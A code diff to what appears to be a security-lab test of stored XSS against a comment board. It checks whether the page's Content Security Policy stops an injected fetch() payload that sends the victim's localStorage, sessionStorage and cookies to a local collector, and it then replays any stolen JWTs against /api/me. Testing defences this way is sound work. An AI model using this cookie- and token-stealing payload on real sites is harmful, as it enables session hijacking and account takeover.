@@ -28,7 +28,7 @@ export default defineAttack({
       });
     });
     await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
-    const { port } = collector.address() as { port: number };
+    const collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}/`;
 
     try {
       // 1. mallory signs in to her own account and posts the comment.
@@ -38,7 +38,7 @@ export default defineAttack({
         body: JSON.stringify({ username: 'mallory', password: 'mallory-was-here' }),
       });
       const { access_token: malloryToken } = (await login.json()) as { access_token: string };
-      const steal = `fetch('http://127.0.0.1:${port}/', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookie: document.cookie }) })`;
+      const steal = `fetch('${collectorUrl}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookie: document.cookie }) })`;
       const posted = await fetch(`${lab.url}/api/comments`, {
         method: 'POST',
         headers: { 'content-type': 'application/json', authorization: `Bearer ${malloryToken}` },
@@ -46,11 +46,14 @@ export default defineAttack({
       });
       if (posted.status !== 201) throw new Error(`mallory could not post her comment: ${posted.status}`);
 
-      // 2. alice signs in and reads the board. (Her page reports in its console what its CSP refuses.)
+      // 2. alice signs in and reads the board. Her page reports in its console what its CSP refuses:
+      //    we listen for mallory's inline handler or her request to the collector, nothing else.
       const page = await (await (await lab.browser()).newContext()).newPage();
       const refused = new Promise<string>((resolve) => {
         page.on('console', (message) => {
-          if (message.text().includes('Content Security Policy')) resolve(message.text());
+          const text = message.text();
+          const hers = text.includes('inline event handler') || text.includes(collectorUrl);
+          if (text.includes('Content Security Policy') && hers) resolve(text);
         });
       });
       await page.goto(lab.url);
@@ -71,7 +74,7 @@ export default defineAttack({
       if (typeof arrived !== 'string') {
         return blocked(
           'refused' in arrived
-            ? `the comment became markup, but alice's browser refused the script: "${arrived.refused.slice(0, 160)}…"`
+            ? `the comment became markup, but alice's browser enforced the page's CSP: "${arrived.refused.slice(0, 160)}…"`
             : 'the comment became markup, but nothing reached the collector within 10 s',
         );
       }
@@ -79,9 +82,10 @@ export default defineAttack({
       // 4. mallory tries everything that looks like a JWT as a Bearer token, from her own machine.
       for (const token of arrived.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? []) {
         const me = await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${token}` } });
-        if (me.ok) {
+        const answer = await me.text();
+        if (me.ok && JSON.parse(answer).username === 'alice') {
           return worked(
-            `the collector received alice's storage with a token (${token.slice(0, 16)}…); with it, GET /api/me answers ${await me.text()}`,
+            `the collector received alice's storage with a token (${token.slice(0, 16)}…); with it, GET /api/me answers ${answer}`,
           );
         }
       }
